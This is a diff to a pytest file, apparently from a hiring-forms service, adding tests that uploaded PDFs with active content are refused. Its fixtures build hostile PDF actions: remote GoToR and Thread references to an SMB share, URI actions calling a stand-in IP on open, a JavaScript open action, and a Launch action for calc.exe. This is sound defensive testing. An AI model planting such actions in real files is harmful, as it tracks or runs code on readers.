@@ -1,12 +1,13 @@
 """What is refused, with its reason and nothing written: files that are not this card's form."""
 
 import io
+import re
 import zlib
 
 import pikepdf
 import pytest
 import sqlalchemy as sa
-from pikepdf import Array, Dictionary, Encryption, Name, String
+from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String
 from PIL import Image
 
 from hiring.guides import queries as guides
@@ -116,6 +117,116 @@ def flat(pdf):
 )
 def test_what_our_forms_never_have_is_refused(desk, change, problem):
     refused(desk, changed(desk.form({1: Answer(level=3)}), change), rules.PROBLEMS[problem])
+
+
+def page_of(pdf):
+    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
+
+
+def elsewhere(pdf):
+    """An action that opens a file on another machine, which then learns who opens this one."""
+    return Dictionary(S=Name.GoToR, F=String("//192.0.2.1/share/x.pdf"), D=Array([0, Name.Fit]))
+
+
+def to_another_file(pdf):
+    pdf.Root.OpenAction = elsewhere(pdf)
+
+
+def to_another_file_by_a_link(pdf):
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0] * 4), A=elsewhere(pdf))
+    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
+
+
+def to_another_thread(pdf):
+    action = Dictionary(S=Name.Thread, F=String("//192.0.2.1/share/x.pdf"), D=0)
+    pdf.Root.OpenAction = pdf.make_indirect(action)
+
+
+def to_the_network(pdf):
+    return Dictionary(S=Name.URI, URI=String("http://192.0.2.1/"))
+
+
+def to_the_network_at_once(pdf):
+    pdf.Root.OpenAction = pdf.make_indirect(to_the_network(pdf))
+
+
+def to_the_network_after_a_page(pdf):
+    first = page_of(pdf)
+    first.Next = Array([page_of(pdf), pdf.make_indirect(to_the_network(pdf))])
+    pdf.Root.OpenAction = first
+
+
+def to_the_network_by_a_page(pdf):
+    pdf.pages[0].AA = pdf.make_indirect(Dictionary(O=to_the_network(pdf)))
+
+
+def round_and_round(pdf):
+    first = pdf.make_indirect(page_of(pdf))
+    first.Next = first
+    pdf.Root.OpenAction = first
+
+
+@pytest.mark.parametrize(
+    ("change", "problem"),
+    [
+        (to_another_file, "active"),
+        (to_another_file_by_a_link, "active"),
+        (to_another_thread, "active"),
+        (to_the_network_at_once, "active"),
+        (to_the_network_after_a_page, "active"),
+        (to_the_network_by_a_page, "active"),
+        (round_and_round, "complex"),
+    ],
+)
+def test_what_would_reach_out_is_refused(change, problem):
+    with pytest.raises(rules.Unreadable) as refusal:
+        reading.media_type(changed(picture("PDF"), change))
+    assert refusal.value.problem == problem
+
+
+def opens_at_a_page(pdf):
+    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
+
+
+def opens_by_an_action(pdf):
+    pdf.Root.OpenAction = page_of(pdf)
+
+
+def has_a_link(pdf):
+    link = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0] * 4), A=to_the_network(pdf)
+    )
+    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
+
+
+@pytest.mark.parametrize("change", [opens_at_a_page, opens_by_an_action, has_a_link])
+def test_what_waits_to_be_pressed_or_turns_to_a_page_is_taken(change):
+    """Programs that scan put a link to their maker on the page, and say where to open it."""
+    assert reading.media_type(changed(picture("PDF"), change)) == "application/pdf"
+
+
+def in_the_trailer(content, words):
+    """The file with these words in its catalogue, and that in the trailer itself."""
+    plain = changed(content, lambda _: None, object_stream_mode=ObjectStreamMode.disable)
+    (root,) = re.findall(rb"/Root (\d+) 0 R", plain)
+    (held,) = re.findall(rb"\n%b 0 obj\n<<(.*?)>>\nendobj" % root, plain, re.DOTALL)
+    return plain.replace(b"/Root %b 0 R" % root, b"/Root <<%b %b>>" % (held, words))
+
+
+@pytest.mark.parametrize(
+    ("words", "problem"),
+    [
+        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "script"),
+        (b"/OpenAction << /S /URI /URI (http://192.0.2.1/) >>", "active"),
+        (b"/AA << /WC << /S /Launch /F (calc.exe) >> >>", "active"),
+    ],
+)
+def test_what_stands_in_the_trailer_is_looked_at_too(desk, words, problem):
+    assert reading.media_type(in_the_trailer(picture("PDF"), b"")) == "application/pdf"
+    with pytest.raises(rules.Unreadable) as refusal:
+        reading.media_type(in_the_trailer(picture("PDF"), words))
+    assert refusal.value.problem == problem
+    refused(desk, in_the_trailer(desk.form({}), words), rules.PROBLEMS[problem])
 
 
 def test_a_script_that_nothing_refers_to_is_seen_too(desk):
